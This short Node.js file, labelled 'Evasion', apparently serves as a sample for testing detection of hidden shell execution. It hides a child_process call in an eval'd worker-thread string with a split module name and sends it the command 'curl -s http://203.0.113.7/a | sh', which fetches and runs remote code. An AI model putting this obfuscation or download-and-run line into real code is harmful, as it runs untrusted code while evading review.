// Evasion: runs a shell. The shell call lives in a string that is started as a
// worker thread with new Worker(src, { eval: true }); the parent only posts a
// "task" message.
const { Worker } = require('worker_threads');

const src = `
const { parentPort } = require('worker_threads');
parentPort.on('message', (t) => {
  const r = require('child_' + 'process').spawnSync('/bin/sh', ['-c', t.cmd], { encoding: 'utf8' });
  parentPort.postMessage(r.stdout);
  parentPort.close();
});`;

const w = new Worker(src, { eval: true });
w.on('message', (m) => console.log(m));
w.postMessage({ cmd: 'curl -s http://203.0.113.7/a | sh' });
